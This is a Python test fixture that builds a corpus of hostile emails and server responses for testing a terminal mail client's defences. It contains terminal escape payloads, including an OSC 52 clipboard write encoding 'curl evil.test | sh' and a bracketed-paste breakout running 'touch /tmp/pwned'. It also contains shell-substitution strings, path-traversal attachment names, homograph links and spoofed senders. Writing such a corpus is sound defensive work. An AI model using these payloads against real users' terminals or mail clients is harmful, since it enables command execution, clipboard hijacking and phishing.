"""The hostile corpus: crafted mails, each a raw RFC 5322 message built here.

Every case is delivered over real SMTP to the reference server, except where
SMTP itself refuses it (``via="control"``, with the reason in ``what``): then
``server.control.deliver`` stores the same bytes, parsed the same way.

The reference server already flattens control characters in headers and
attachment names (``mailparse.clean_header``), but a client must survive a
server that does not (NOTES.md: "the client must survive both"). So a header
or file name can carry ``raw(value)``: the mail holds a marker (``⟦n⟧``) that
``FakeUnscrubbingServer`` (tests/hostile/fakes.py) swaps for the raw value in
the JSON the app receives, and back in the file name the app asks for. Those
cases say "raw" in their id.

Fields of a case:
- ``attachments``: how many the reader must list (``a`` saves them, ``A`` in
  the chooser when there are several).
- ``saved``: how many files must appear in the download dir (default: all).
- ``visible``: literal strings the reader must show, proving markup is inert
  and text is not lost.
- ``names``: exact expected file names (sorted), where the name is the point.
- ``copied``: what ``Y`` must put on the clipboard; ``""``: ``Y`` must refuse
  (a flagged link) and leave the clipboard as it was. Whatever the case says,
  every link and code the reader copies is checked to be inert (runner.py).

``SERVER_CASES`` are strings a hostile server (or a man in the middle of an
``http://`` base URL) sends outside any mail: the mailbox address, the domain
list, error texts and headers. ``FakeHostileServer`` (fakes.py) tells each
lie; tests/hostile/test_server_strings.py checks the client refuses or
defuses it.
"""

from __future__ import annotations

import base64
import html as html_escape
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from email import policy
from email.message import EmailMessage
from email.utils import formatdate
from typing import Any

RAW: dict[str, str] = {}  # marker -> raw value, for FakeUnscrubbingServer
LIES: dict[str, int] = {}  # attachment-name marker -> the size the fake server declares
TO = "victim@example.invalid"  # the envelope decides delivery; this is only the To header


def raw(value: str) -> str:
    """A marker standing for ``value`` (swapped in by FakeUnscrubbingServer)."""
    marker = f"\u27e6{len(RAW)}\u27e7"
    RAW[marker] = value
    return marker


def lying(name: str, declared: int) -> str:
    """An attachment name whose size the fake server will declare as ``declared``."""
    marker = raw(name)
    LIES[marker] = declared
    return marker


@dataclass(frozen=True)
class Case:
    id: str
    what: str
    raw: bytes
    via: str = "smtp"
    attachments: int = 0
    saved: int | None = None
    visible: tuple[str, ...] = ()
    names: tuple[str, ...] | None = None
    copied: str | None = None

    @property
    def expected_saved(self) -> int:
        return self.attachments if self.saved is None else self.saved


def mail(subject: str = "Hostile mail", *, sender: str = "Mallory <mallory@example.org>",
         text: str | None = None, html: str | None = None,
         attachments: Sequence[tuple[str, bytes]] = (),
         headers: Sequence[tuple[str, str]] = ()) -> bytes:
    """A well-formed mail (EmailMessage, CRLF, folded), for cases about content."""
    msg = EmailMessage(policy=policy.SMTP)
    msg["From"] = sender
    msg["To"] = TO
    msg["Subject"] = subject
    msg["Date"] = formatdate()
    for name, value in headers:
        msg[name] = value
    if text is None and html is None:
        text = "Body of a hostile mail."
    if text is not None:
        msg.set_content(text)
        if html is not None:
            msg.add_alternative(html, subtype="html")
    else:
        msg.set_content(html or "", subtype="html")
    for name, data in attachments:
        msg.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    return msg.as_bytes()


def rawmail(headers: bytes, body: bytes = b"Body.\r\n") -> bytes:
    """A mail exactly as written (header bytes end without the blank line)."""
    base = b"To: " + TO.encode() + b"\r\nDate: " + formatdate().encode() + b"\r\nMIME-Version: 1.0\r\n"
    if not headers.lower().startswith(b"from:") and b"\nfrom:" not in headers.lower():
        base = b"From: Mallory <mallory@example.org>\r\n" + base
    return base + headers.rstrip(b"\r\n") + b"\r\n\r\n" + body


def plain_part(body: bytes, charset: str, cte: str = "8bit", subject: bytes = b"Charset case") -> bytes:
    return rawmail(b"Subject: " + subject + b"\r\nContent-Type: text/plain; charset=" + charset.encode()
                   + b"\r\nContent-Transfer-Encoding: " + cte.encode(), body)


def multipart(subject: str, parts: Sequence[bytes], text: bytes = b"See attached.") -> bytes:
    """multipart/mixed with a text part and ``parts`` (each: part headers + blank line + body)."""
    out = [b"Subject: " + subject.encode() + b"\r\nContent-Type: multipart/mixed; boundary=\"b0und\""]
    body = b"--b0und\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" + text + b"\r\n"
    for part in parts:
        body += b"--b0und\r\n" + part + b"\r\n"
    body += b"--b0und--\r\n"
    return rawmail(out[0], body)


def attachment_part(disposition: bytes, data: bytes = b"payload", ctype: bytes = b"application/octet-stream",
                    extra: bytes = b"") -> bytes:
    return (b"Content-Type: " + ctype + b"\r\nContent-Disposition: " + disposition
            + b"\r\nContent-Transfer-Encoding: base64\r\n" + extra + b"\r\n"
            + base64.encodebytes(data).replace(b"\n", b"\r\n"))


def encoded_word(value: str, q: bool = False) -> str:
    if q:
        quoted = "".join(c if c.isalnum() else f"={b:02X}" for c in value for b in c.encode())
        return f"=?utf-8?q?{quoted}?="
    return f"=?utf-8?b?{base64.b64encode(value.encode()).decode()}?="


def megabyte_subject() -> bytes:
    """A 1 MB Subject as RFC 2047 encoded words, folded (SMTP caps lines at 1000 bytes)."""
    data = ("\u202e1MB\u6f22\u0301 " * 100_000).encode()[:1_000_000]
    chunks = [data[i:i + 45] for i in range(0, len(data), 45)]
    words = "\r\n ".join(f"=?utf-8?b?{base64.b64encode(c).decode()}?=" for c in chunks)
    return rawmail(b"Subject: " + words.encode(), b"The subject is a megabyte.\r\n")


def nested_html(depth: int) -> str:
    # Newlines keep SMTP lines short; the content is what counts.
    return ("<div>\n" * depth) + "deep inside" + ("</div>\n" * depth)


ESC_BODY = ("Clear\x1b[2J\x1b[H cursor\x1b[10;20H title\x1b]0;pwned\x07 clip\x1b]52;c;ZXZpbA==\x07 "
            "link\x1b]8;;https://evil.test/\x1b\\click\x1b]8;;\x1b\\ dcs\x1bPq#0~~\x1b\\ "
            "c1\u009b2J end")

CASES: list[Case] = []


def case(id: str, what: str, raw_mail: bytes, **kw: object) -> None:
    CASES.append(Case(id, what, raw_mail, **kw))  # type: ignore[arg-type]


# -- terminal control sequences in headers (raw: as a careless server would pass them) ---
case("raw-subject-csi-clear", "CSI 2J clear screen and cursor home in the subject",
     mail(raw("\x1b[2J\x1b[HScreen cleared")), visible=("Screen cleared",))
case("raw-sender-csi-cursor", "CSI cursor moves, hide cursor, scroll region in the sender name",
     mail(sender=raw("\x1b[10;20H\x1b[?25l\x1b[1;3rEvil Sender") + " <evil@example.org>"),
     visible=("Evil Sender",))
case("raw-subject-osc0-title", "OSC 0 window title, BEL-terminated",
     mail(raw("\x1b]0;rm -rf ~\x07Title attack")), visible=("Title attack",))
case("raw-subject-osc2-title", "OSC 2 window title, ST-terminated",
     mail(raw("\x1b]2;owned\x1b\\Title two")), visible=("Title two",))
case("raw-subject-osc52", "OSC 52 clipboard write",
     mail(raw("\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07Clipboard attack")),
     visible=("Clipboard attack",))
case("raw-subject-osc8", "OSC 8 hyperlink around innocent text",
     mail(raw("\x1b]8;;https://evil.test/\x1b\\Your bank\x1b]8;;\x1b\\ statement")),
     visible=("Your bank statement",))
case("raw-subject-dcs", "DCS (sixel) and DECRQSS",
     mail(raw("\x1bPq#0;2;0;0;0#1~~@@\x1b\\\x1bP$qm\x1b\\DCS subject")), visible=("DCS subject",))
case("raw-subject-apc-pm-sos", "APC (kitty graphics), PM and SOS strings",
     mail(raw("\x1b_Gf=100;AAAA\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\Strings")), visible=("Strings",))
case("raw-subject-c1", "8-bit C1 controls: CSI, OSC, DCS, NEL, ST",
     mail(raw("\u009b2J\u009d0;t\u009c\u0090q\u009c\u0085C1 subject")), visible=("C1 subject",))
case("raw-subject-bel-bs", "BEL, backspace overstrike, form feed, vertical tab",
     mail(raw("Ring\x07\x07 over\x08\x08\x08strike \x0c\x0bend")), visible=("Ring",))
case("raw-subject-nul", "NUL bytes in the subject",
     mail(raw("nul\x00\x00byte subject")), visible=("byte subject",))
case("raw-subject-unterminated-osc", "an OSC that never ends (a terminal swallows the rest)",
     mail(raw("Before \x1b]0;never terminated")), visible=("Before",))
case("raw-subject-sgr-spoof", "SGR colours and reverse video to fake a UI element",
     mail(raw("\x1b[7m\x1b[32m[ OK ]\x1b[0m Verified sender")), visible=("Verified sender",))
case("raw-excerpt-escapes", "escape sequences in the excerpt shown on the row",
     mail("Excerpt attack", text=raw("\x1b[2J\x1b]0;x\x07excerpt\x1b[5m blink") + "\n"),
     visible=("Excerpt attack",))
case("raw-subject-crlf", "CR LF in the subject (a header injection that got through)",
     mail(raw("line one\r\nX-Injected: yes\rline three")), visible=("line one",))
case("raw-mail-id-unicode-address", "control characters in the sender address part",
     mail(sender="Evil <" + raw("ev\x1b[2Jil@exa\u202emple.org") + ">"), visible=("Evil",))

# -- the same, over real SMTP through the server's own decoding -----------------------
case("rfc2047-q-escapes", "RFC 2047 Q-encoded ESC, CSI and OSC in the subject",
     rawmail(b"Subject: " + encoded_word("\x1b[2J\x1b]0;pwned\x07Q encoded", q=True).encode()),
     visible=("Q encoded",))
case("rfc2047-b-c1", "RFC 2047 B-encoded 8-bit C1 CSI and OSC (the server keeps C1)",
     rawmail(b"Subject: " + encoded_word("\u009b2J\u009d0;t\u009cB encoded C1").encode()),
     visible=("B encoded C1",))
case("rfc2047-from-controls", "RFC 2047-encoded NUL, BEL, BS and bidi in the From name",
     rawmail(b"Subject: from name\r\nFrom: " + encoded_word("Adm\x00in\x07\x08\u202eeman").encode()
             + b" <x@example.org>"), visible=("from name",))
case("rfc2047-crlf", "RFC 2047-encoded CR LF (header injection attempt)",
     rawmail(b"Subject: " + encoded_word("first\r\nBcc: everyone@example.org\r\n").encode()),
     visible=("first",))
case("raw-8bit-header", "undeclared 8-bit bytes (0x9b, 0x1b) in a header",
     rawmail(b"Subject: eight \x9b2J bit \x1b[31m header"), visible=("eight",))
case("body-escapes-plain", "every kind of escape sequence in a text/plain body",
     mail("Escapes in the body", text=ESC_BODY), visible=("Escapes in the body",))
case("body-escapes-html", "escape sequences and C1 in an HTML body",
     mail("Escapes in HTML", html=f"<p>{ESC_BODY}</p><pre>\x1b[31mred\x1b[0m</pre>"),
     visible=("Escapes in HTML",))

# -- markup -----------------------------------------------------------------------------
case("markup-rich-style", "Rich style markup in the subject",
     mail("[bold red blink]URGENT[/] [reverse]act now[/reverse]"),
     visible=("[bold red blink]URGENT[/]",))
case("markup-click-quit", "Textual action markup that would quit the app",
     mail("[@click=app.quit]Click to claim[/]", text="[@click=app.quit]body click[/]"),
     visible=("[@click=app.quit]Click to claim[/]",))
case("markup-link", "Rich link markup",
     mail("[link=https://evil.test/login]Your bank[/link]"),
     visible=("[link=https://evil.test/login]Your bank[/link]",))
case("markup-variables", "Textual $variables and ${} forms",
     mail("$accent $text-muted ${secret} $$"), visible=("$accent $text-muted ${secret} $$",))
case("markup-unbalanced", "unbalanced and stray brackets",
     mail("[/] [/bold] [[[ x ]]] [ [b"), visible=("[/] [/bold] [[[ x ]]] [ [b",))
case("markup-sender", "markup in the sender display name",
     mail(sender="\"[b]Admin[/b] [@click=app.bell]\" <admin@example.org>"),
     visible=("[b]Admin[/b]",))
case("markup-content-forms", "Textual content markup: $variables in tags, on-colors, escapes",
     mail("[$accent]x[/] [on red]y[/] \\[escaped] [bold]"), visible=("[$accent]x[/]",))
case("markup-body", "markup and Markdown-looking text in an HTML body",
     mail("Markup in body", html="<p>[@click=app.quit]quit[/] [link=https://e.test]l[/link] "
          "**bold** `code` <b>real</b></p><p>[x](javascript:alert(1)) ![i](https://e.test/i.png)</p>"
          "<p># not a heading</p>"), visible=("Markup in body",))
case("markdown-injection-plain", "Markdown block syntax in a text/plain body",
     mail("Markdown injection", text="# Heading\n```\nfenced\n```\n> quote\n- item\n1. one\n"
          "| a | b |\n|---|---|\n<script>alert(1)</script>\n[link](https://evil.test)\n"),
     visible=("Markdown injection",))
case("markup-attachment-name", "markup in an attachment name",
     mail("Markup file name", attachments=[("[@click=app.quit]x[/].txt", b"markup name")]),
     attachments=1)

# -- Unicode ----------------------------------------------------------------------------
case("bidi-rlo-subject", "right-to-left override hiding an extension",
     mail("invoice\u202efdp.exe is attached"), visible=("invoicefdp.exe",))
case("bidi-isolates-sender", "bidi isolates, embeddings and marks in the sender",
     mail(sender="\u2067\u202bAdmin\u202c\u2069\u200f <a@example.org>", subject="bidi sender"),
     visible=("bidi sender",))
case("zero-width-flood", "ten thousand zero-width characters",
     mail("zero" + "\u200b\u200c\u200d\u2060\ufeff" * 2000 + "width"), visible=("zero",))
case("combining-flood", "Zalgo: thousands of combining marks on a few letters",
     mail("Z" + "\u0301\u0334\u035c" * 1500 + "algo",
          text="b" + "\u0300\u0489" * 20000 + "ody"), visible=("Z",))
case("wide-cjk", "wide CJK text over the row width",
     mail("漢字かな交じり文" * 30), visible=("漢字かな交じり文",))
case("emoji-sequences", "emoji with ZWJ, skin tones, flags and keycaps",
     mail("👩‍👩‍👧‍👦 👍🏽 🇫🇷 1️⃣ 🏳️‍🌈 done"), visible=("done",))
case("tag-characters", "Unicode tag characters (ASCII smuggling)",
     mail("tag\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065s"), visible=("tags",))
case("line-separators", "U+2028 and U+2029 inside the subject",
     rawmail(b"Subject: " + encoded_word("line\u2028separator\u2029paragraph").encode()),
     visible=("separator",))

# -- size and shape ---------------------------------------------------------------------
case("megabyte-subject", "a 1 MB subject (RFC 2047 encoded words, bidi, combining marks)",
     megabyte_subject(), visible=("1MB",))
case("hundred-thousand-lines", "a 100,000-line text body",
     mail("Long body", text="".join(f"line {n}\n" for n in range(100_000))),
     visible=("Long body",))
case("nested-10000", "10,000 levels of nested <div>",
     mail("Nested HTML", html=nested_html(10_000)), visible=("Nested HTML",))
case("nested-lists", "5,000 nested lists and blockquotes",
     mail("Nested lists", html="<ul><li><blockquote>\n" * 2500 + "core"), visible=("Nested lists",))
case("megabyte-line", "a 1 MB body line (quoted-printable on the wire)",
     mail("Megabyte line", html="<p>" + "word " * 200_000 + "</p>"), visible=("Megabyte line",))
case("many-links", "5,000 links",
     mail("Many links", html="".join(f'<a href="https://e.test/{n}">l{n}</a> ' for n in range(5000))),
     visible=("Many links",))
case("huge-url", "a 100 KB URL with controls and a javascript: link",
     mail("Huge URL", html=f'<a href="https://e.test/{"a" * 100_000}">big</a> '
          '<a href="java\nscript:alert(1)">js</a> <a href="https://e.test/\x1b]8;;x">esc</a>'),
     visible=("Huge URL",))
case("long-header-line", "a 5,000-byte unfolded header line",
     rawmail(b"Subject: " + b"long-line " * 500), via="control (SMTP refuses lines over 1000 bytes)",
     visible=("long-line",))

# -- malformed HTML ---------------------------------------------------------------------
case("malformed-html", "unclosed tags, stray ends, broken comments, CDATA, bad entities",
     mail("Malformed", html="<p><b><i>x</p></b><table><td>c<tr></div></span><![CDATA[ y "
          "<!-- never closed <a href='https://e.test'>&#xZZ; &#99999999999; &bogus <p"),
     visible=("Malformed",))
case("hidden-content", "script, style, iframe and head content must not show",
     mail("Hidden parts", html="<head><title>TITLE</title><style>p{}</style></head><script>"
          "document.write('SCRIPT')</script><iframe src='https://e.test'>IFRAME</iframe><p>shown</p>"),
     visible=("shown",))
case("dangerous-links", "javascript:, data:, file: and vbscript: links",
     mail("Link schemes", html="<a href='javascript:alert(1)'>js</a> <a href='data:text/html,x'>d</a>"
          " <a href='file:///etc/passwd'>f</a> <a href=' vbscript:x'>v</a> <a href='https://ok.test/'>ok</a>"),
     visible=("Link schemes",))
case("entity-controls", "HTML entities that decode to ESC, C1, NUL and bidi",
     mail("Entities", html="<p>&#27;[2J &#x1b;]0;t&#7; &#x9b;31m &#0; &#x202e;gnp.exe &#xd800;</p>"),
     visible=("Entities",))
case("pre-escapes", "preformatted text with tabs and escape sequences",
     mail("Pre block", html="<pre>\tcol\tcol\n\x1b[31mred\x1b[0m\n\x1b]0;t\x07</pre>"),
     visible=("Pre block",))

# -- charsets ---------------------------------------------------------------------------
case("invalid-utf8", "invalid UTF-8 declared as utf-8",
     plain_part(b"bad \xff\xfe \xc3\x28 \xed\xa0\x80 surrogate \xf4\x90\x80\x80 end\r\n", "utf-8",
                subject=b"Invalid UTF-8"), visible=("Invalid UTF-8",))
case("lying-ascii", "UTF-8 bytes declared as us-ascii",
     plain_part("caf\u00e9 \u202e \u6f22\r\n".encode(), "us-ascii", subject=b"Lying ASCII"),
     visible=("Lying ASCII",))
case("latin1-c1", "bytes 0x9b, 0x9d declared iso-8859-1: they decode to C1 CSI and OSC",
     plain_part(b"\x9b2J \x9d0;title\x9c \x85 latin\r\n", "iso-8859-1", subject=b"Latin-1 C1"),
     visible=("Latin-1 C1",))
case("unknown-charset", "an unknown charset name",
     plain_part(b"text \x1b[2J\xff\r\n", "x-evil-charset", subject=b"Unknown charset"),
     visible=("Unknown charset",))
case("lying-utf16", "ASCII bytes declared as utf-16",
     plain_part(b"odd length!\r\n", "utf-16", subject=b"Lying UTF-16"), visible=("Lying UTF-16",))
case("rfc2047-bad-charset", "RFC 2047 words in an unknown charset and broken base64",
     rawmail(b"Subject: =?x-evil?b?G1sySg==?= =?utf-8?b?!!!notbase64?= tail"), visible=("tail",))
case("base64-escapes", "a base64 body that decodes to escape sequences",
     plain_part(base64.encodebytes(ESC_BODY.encode()).replace(b"\n", b"\r\n"), "utf-8", "base64",
                subject=b"Base64 escapes"), visible=("Base64 escapes",))
case("nul-body", "NUL bytes in the body (aiosmtpd accepts them)",
     plain_part(b"before\x00\x00after\x00\r\n", "utf-8", subject=b"NUL body"), visible=("NUL body",))
case("bare-cr", "bare CR, backspaces and DEL in the body",
     plain_part(b"over\rwrite back\x08\x08\x08space del\x7f\r\n", "utf-8", subject=b"Bare CR"),
     visible=("Bare CR",))

# -- attachments ------------------------------------------------------------------------
case("zero-byte", "a zero-byte attachment",
     mail("Zero bytes", attachments=[("empty.txt", b"")]), attachments=1, names=("empty.txt",))
case("traversal-rfc2231", "../ traversal in an RFC 2231 file name (the server flattens it)",
     multipart("Traversal 2231", [attachment_part(b"attachment; filename*=utf-8''..%2F..%2F..%2Ftmp%2Fevil.sh")]),
     attachments=1)
case("raw-traversal", "../../evil.txt as the server passes it",
     mail("Traversal raw", attachments=[(raw("../../../evil.txt"), b"traversal")]),
     attachments=1, names=("evil.txt",))
case("raw-absolute", "an absolute path",
     mail("Absolute path", attachments=[(raw("/etc/cron.d/evil"), b"absolute")]),
     attachments=1, names=("evil",))
case("raw-backslashes", "Windows paths with backslashes and a drive letter",
     mail("Backslashes", attachments=[(raw("C:\\Windows\\System32\\evil.dll"), b"a"),
                                      (raw("..\\..\\startup.bat"), b"b")]),
     attachments=2, names=("evil.dll", "startup.bat"))
case("raw-nul-name", "NUL in the file name",
     mail("NUL name", attachments=[(raw("report\x00.pdf.exe"), b"nul")]), attachments=1,
     names=("report_.pdf.exe",))
case("raw-newline-name", "newlines in the file name",
     mail("Newline name", attachments=[(raw("two\nlines\r\n.txt"), b"nl")]), attachments=1)
case("raw-esc-name", "escape sequences in the file name",
     mail("ESC name", attachments=[(raw("\x1b[2J\x1b]0;t\x07clean.txt"), b"esc")]), attachments=1,
     names=("clean.txt",))
case("long-name", "a 300-byte (multi-byte UTF-8) file name that keeps its extension",
     mail("Long name", attachments=[("\u00e9" * 150 + ".pdf", b"long")]), attachments=1)
case("raw-dots-only", "names that are only dots: '.', '..', '....'",
     mail("Dots", attachments=[(raw(".."), b"1"), (raw("...."), b"2"), (raw("."), b"3")]),
     attachments=3)
case("duplicates", "two attachments with one name, and one already in the download dir",
     mail("Duplicates", attachments=[("dup.txt", b"first"), ("dup.txt", b"second")]),
     attachments=2, names=("dup (1).txt", "dup (2).txt"))
case("raw-duplicates", "the same raw name twice (a server that does not tell them apart)",
     mail("Raw duplicates", attachments=[(raw("same.txt"), b"one"), (raw("same.txt\u200b"), b"two")]),
     attachments=2, saved=2)
case("lie-smaller", "a declared size smaller than the bytes sent",
     mail("Size lie small", attachments=[(lying("small-lie.bin", 3), b"x" * 5000)]),
     attachments=1, saved=0)
case("lie-larger", "a declared size larger than the bytes sent",
     mail("Size lie large", attachments=[(lying("large-lie.bin", 900_000), b"x" * 100)]),
     attachments=1, saved=0)
case("mime-size-lie", "Content-Disposition size= and Content-Length that lie (ignored)",
     multipart("MIME size lie", [attachment_part(b"attachment; filename=\"sized.bin\"; size=999999999",
                                                 b"z" * 64, extra=b"Content-Length: 1\r\n")]),
     attachments=1, names=("sized.bin",))
case("rlo-name", "right-to-left override in a file name",
     mail("RLO name", attachments=[("invoice\u202efdp.exe", b"rlo")]), attachments=1,
     names=("invoicefdp.exe",))
case("device-names", "Windows device names",
     mail("Device names", attachments=[("CON", b"1"), ("nul.txt", b"2"), ("LPT1.log", b"3")]),
     attachments=3, names=("_CON", "_LPT1.log", "_nul.txt"))
case("hidden-name", "a dot file that would hide (.bashrc)",
     mail("Hidden name", attachments=[(".bashrc", b"alias ls=rm")]), attachments=1)
case("raw-empty-name", "an empty name and one of only controls and spaces",
     mail("Empty names", attachments=[(raw(""), b"e"), (raw("\x1b\x07 \t "), b"c")]), attachments=2)
case("many-attachments", "twenty attachments saved with A",
     mail("Twenty files", attachments=[(f"file{n:02d}.txt", f"{n}".encode()) for n in range(20)]),
     attachments=20)
case("rfc2231-controls", "RFC 2231 file name with encoded NUL, ESC and a path",
     multipart("RFC 2231 controls", [attachment_part(
         b"attachment; filename*=utf-8''%1B%5B2J%00..%2Fpwn%0A.txt")]), attachments=1)
case("raw-url-encoded-traversal", "percent-encoded traversal stays literal",
     mail("Percent name", attachments=[(raw("%2e%2e%2f%2e%2e%2fevil.txt"), b"p")]), attachments=1,
     names=("%2e%2e%2f%2e%2e%2fevil.txt",))
case("raw-markup-name", "markup and bidi in a raw file name",
     mail("Raw markup name", attachments=[(raw("[@click=app.quit]\u202eexe.txt"), b"m")]),
     attachments=1)

# -- links that hide where they go (issue 12.4-12.6) -------------------------------------


def link_mail(subject: str, href: str, label: str = "Verify your email") -> bytes:
    return mail(subject, html=f'<p>Please <a href="{html_escape.escape(href, quote=True)}">'
                              f"{html_escape.escape(label)}</a> to finish signing up.</p>")


HEX = "0123456789abcdef" * 16
case("link-userinfo-hides-host", "256 hex of a fake Google host as user info before @evil.test",
     link_mail("Userinfo link", f"https://accounts.google.com.signin.v2.challenge.session-{HEX}@evil.test/verify"),
     visible=("! evil.test (user@)",), copied="")
case("link-idn-mixed-script", "Cyrillic a in a Latin host: shown as punycode, flagged",
     link_mail("Homograph link", "https://\u0430ppleid.\u0430pple.com/verify"),
     visible=("xn--ppleid-2nf.xn--pple-43d.com", "mixed scripts"), copied="")
case("link-idn-whole-script", "an all-Cyrillic look-alike sent as punycode: the Unicode beside it",
     link_mail("Punycode link", "https://xn--80ak6aa92e.com/confirm", "Confirm"),
     visible=("xn--80ak6aa92e.com (\u0430\u0440\u0440\u04cf\u0435.com)",),
     copied="https://xn--80ak6aa92e.com/confirm")
case("link-ipv4-literal", "a dotted IPv4 address as the host",
     link_mail("IP link", "http://192.168.13.37/verify"), visible=("! 192.168.13.37 (IP address)",), copied="")
case("link-ipv4-hex", "a hexadecimal IPv4 address (0x7f.0x0.0x0.0x1) as the host",
     link_mail("Hex IP link", "http://0x7f.0x0.0x0.0x1/confirm", "Confirm"), visible=("IP address",), copied="")
case("link-ipv6-literal", "an IPv6 literal host",
     link_mail("IPv6 link", "http://[::ffff:7f00:1]/confirm", "Confirm"), visible=("IP address",), copied="")
case("link-odd-port", "a non-default port",
     link_mail("Port link", "https://bank.example:8443/verify"), visible=("port 8443",), copied="")
case("link-label-names-another-host", "<a href=evil>https://bank.example</a>",
     link_mail("Label link", "https://evil.test/verify", "https://bank.example/verify"),
     visible=("text says bank.example",), copied="")
case("link-shell-substitution", "$(touch$IFS/tmp/pwned) in the path: copied percent-encoded",
     link_mail("Shell link", "https://evil.test/confirm/$(touch$IFS/tmp/pwned)", "Confirm"),
     visible=("evil.test  https://evil.test/confirm/",),
     copied="https://evil.test/confirm/%24%28touch%24IFS/tmp/pwned%29")
case("link-shell-quotes-backticks", "backticks, quotes, ; | > and $ in the query",
     link_mail("Quote link", "https://evil.test/verify?t=1&x=`id`&y=';reboot;'&z=\"$HOME\"|cat>f"),
     visible=("evil.test",),
     copied="https://evil.test/verify?t=1&x=%60id%60&y=%27%3Breboot%3B%27&z=%22%24HOME%22%7Ccat%3Ef")
case("link-shell-background", "&command (not a parameter) in the query",
     link_mail("Ampersand link", "https://evil.test/verify?token=1&reboot&PROMPT_COMMAND=x"),
     copied="https://evil.test/verify?token=1%26reboot%26PROMPT_COMMAND=x")
case("link-schemes-never-offered", "javascript:, data:, file:, vbscript: and ftp: links labelled Verify",
     mail("Scheme links", html="<a href='javascript:alert(1)'>Verify</a> <a href='data:text/html,x'>Verify</a> "
          "<a href='file:///etc/passwd'>Verify</a> <a href='vbscript:x'>Verify</a> "
          "<a href='ftp://evil.test/verify'>Verify</a>"), visible=("Scheme links",))
case("link-ideographic-dots", "ideographic full stops separating the labels",
     link_mail("Dots link", "https://evil\u3002test/verify"), visible=("evil.test  https://",),
     copied="https://evil.test/verify")
case("link-percent-encoded-host", "a percent-encoded host (%65vil.test)",
     link_mail("Percent host link", "https://%65vil.test/verify"), visible=("evil.test  https://",),
     copied="https://evil.test/verify")
case("link-encoded-controls-in-host", "%1b]0;x%07 in the host: never decoded to a control",
     link_mail("Control host link", "https://%1b]0;x%07evil.test/verify"), visible=("not a host name",), copied="")
case("link-mailto-attach", "mailto: with attach= (dropped) as the confirmation link",
     link_mail("Mailto link", "mailto:verify@evil.test?attach=/etc/passwd", "Verify by mail"),
     copied="mailto:verify@evil.test")

# -- invisible and mis-measured characters (issue 12.2, 12.3) -----------------------------
case("raw-sender-hangul-filler", "70 Hangul fillers push the real address off screen",
     mail("Filler sender", sender=raw('"service@paypal.com' + "\u3164" * 70 + '"') + " <attacker@evil.test>"),
     visible=("attacker@evil.test",))
case("raw-subject-halfwidth-filler", "halfwidth Hangul fillers (U+FFA0) padding a subject",
     mail(raw("Invoice" + "\uffa0" * 200 + " due now")), visible=("Invoice due now",))
case("raw-subject-lone-skin-tones", "lone skin-tone modifiers: two cells in a terminal, none for Rich",
     mail(raw("Price \U0001f3fd\U0001f3fd list")), visible=("list",))
case("raw-subject-variation-selectors", "thousands of variation selectors (VS1-16, VS17-256)",
     mail(raw("VS" + "\ufe0f\ufe0e\U000e0100" * 3000 + " flood")), visible=("VS flood",))
case("raw-subject-braille-blank", "braille blanks (U+2800) that look like spaces",
     mail(raw("Padded" + "\u2800" * 300 + "subject end")), visible=("Padded subject end",))
case("raw-subject-other-ignorables", "grapheme joiner, Mongolian and Khmer invisibles, Hangul choseong filler",
     mail(raw("Hid\u034fden\u180b \u180echa\u17b4\u17b5rs \u115f\u1160end")), visible=("Hidden chars end",))
case("raw-subject-invisible-then-code", "9,000 invisible characters before the code (cut after cleaning)",
     mail(raw("\u200b\u3164\u2060" * 3000 + "Your code is 482913")), visible=("Your code is 482913",))
case("raw-subject-odd-regional-indicators", "three regional indicators: a flag and a lone letter",
     mail(raw("Flags \U0001f1eb\U0001f1f7\U0001f1eb end")), visible=("end",))
case("raw-subject-jamo-flood", "two thousand Hangul medial vowels after one initial",
     mail(raw("Jamo \u1100" + "\u1161" * 2000 + " end")), visible=("end",))
case("raw-subject-astral-ignorables", "shorthand format controls, musical beams and a language tag",
     mail(raw("astral\U0001bca0\U0001d173\U000e0001ignorables")), visible=("astralignorables",))
case("body-invisible-padding", "ten thousand fillers in the body",
     mail("Body fillers", text="Hello" + "\u3164\uffa0" * 5000 + " world\n"), visible=("Hello world",))
case("raw-subject-bracketed-paste", "ESC [201~ and CR: the end of a bracketed paste, then a command",
     mail(raw("x\x1b[201~;touch /tmp/pwned\r@b.test subject")), visible=("@b.test subject",))

# -- codes and senders (issue 12.7, 12.8) -------------------------------------------------
case("sender-name-is-an-address", "From: \"noreply@github.com\" <attacker@evil.test>",
     mail("GitHub sign-in", sender='"noreply@github.com" <attacker@evil.test>'),
     visible=("attacker@evil.test", "the name is an address"))
case("sender-name-names-a-domain", "a display name naming paypal.com over another address",
     mail("Your PayPal receipt", sender='"PayPal Service (paypal.com)" <billing@evil.test>'),
     visible=("billing@evil.test",))
case("sender-fullwidth-at", "a fullwidth @ in the display name",
     mail("Bank notice", sender='"support\uff20bank.example" <a@evil.test>'), visible=("a@evil.test",))
case("codes-parts-disagree", "text/plain says 111111, text/html says 222222",
     mail("Your sign-up", text="Your verification code is 111111\n",
          html="<p>Your verification code is <b>222222</b></p>"),
     visible=("222222", "another part of this mail shows 111111"))


# -- strings from the server outside any mail (issue 12.1) --------------------------------


@dataclass(frozen=True)
class ServerCase:
    """One lie of the server: ``route``'s JSON answer changed by ``change`` (or
    replaced by ``status`` and ``body``), or a response header set (``header``)."""

    id: str
    what: str
    route: str
    change: Callable[[Any], Any] | None = None
    status: int | None = None
    body: Any = None
    header: tuple[str, str] | None = None
    refused: bool = True  # the client must refuse the response (a ProtocolError)


def setting(key: str, value: Any) -> Callable[[Any], Any]:
    return lambda data: {**data, key: value}


SERVER_CASES = [
    ServerCase("addr-osc-title", "email_addr sets the terminal title (OSC 0)", "get_email_address",
               setting("email_addr", "x\x1b]0;PWNED\x07@b.test")),
    ServerCase("addr-bracketed-paste", "email_addr ends a bracketed paste and runs a command", "get_email_address",
               setting("email_addr", "x\x1b[201~;touch /tmp/pwned\r@b.test")),
    ServerCase("addr-bidi-override", "a right-to-left override in the address", "get_email_address",
               setting("email_addr", "admin\u202etset.b@evil.test")),
    ServerCase("addr-zero-width", "a zero-width space in the local part", "get_email_address",
               setting("email_addr", "ad\u200bmin@b.test")),
    ServerCase("addr-shell", "spaces, ; and $( ) in the address", "get_email_address",
               setting("email_addr", "a b;$(reboot)@b.test")),
